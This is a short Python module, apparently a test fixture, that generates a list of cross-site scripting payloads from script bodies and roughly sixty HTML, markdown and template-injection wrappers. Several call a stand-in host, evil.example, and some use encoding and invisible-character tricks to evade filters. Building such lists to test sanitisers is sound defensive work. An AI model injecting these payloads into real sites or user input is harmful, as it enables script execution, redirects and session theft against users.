"""Scripts as somebody might put them into a title, a name, a word or an article: all of it is text."""

from __future__ import annotations

SCRIPTS = ["alert(1)", "top.location='//evil.example'"]
TAGS = [
    "<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror={}>", "<svg/onload={}>",
    "<svg><script>{}</script></svg>", "<body onload={}>", "<iframe src=javascript:{}></iframe>",
    "<a href=javascript:{}>x</a>", "<details open ontoggle={}>", "<video><source onerror={}></video>",
    "<math><mi xlink:href='javascript:{}'>", "<input autofocus onfocus={}>", "<marquee onstart={}>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<form action=javascript:{}><button>",
    "<style>@import '//evil.example'</style>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=//evil.example>",
    "<!--><script>{}</script>-->", "<![CDATA[<script>{}</script>]]>", "<?xml-stylesheet href='javascript:{}'?>",
    "</title><script>{}</script>", "</v><script>{}</script>", "--> <script>{}</script>", "]]><script>{}</script>",
    '"><script>{}</script>', "'><script>{}</script>", "<scr\0ipt>{}</scr\0ipt>", "<scr\u200bipt>{}</script>",
    "\u202e<script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "\\<script>{}</script>", "\\\\<script>{}</script>", "`<script>{}</script>`", "```\n<script>{}</script>\n```",
    "    <script>{}</script>", "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](javascript&#58;{})",
    "[x](data:text/html,<script>{}</script>)", "[x](vbscript:{})", "[x](<javascript:{}>)",
    "[x][y]\n\n[y]: javascript:{}", "![x](https://evil.example/x.png)", "![x](javascript:{})", "<javascript:{}>",
    "<https://evil.example/{}>", '[x](https://evil.example/"onmouseover={})',
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "%3Cscript%3E{}%3C/script%3E",
    '<a href="https://x" onclick={}>x</a>', "> <script>{}</script>", "- <script>{}</script>", "# <script>{}</script>",
]  # fmt: skip
PAYLOADS = [tag.format(script) for tag in TAGS for script in SCRIPTS if "{}" in tag or script == SCRIPTS[0]]
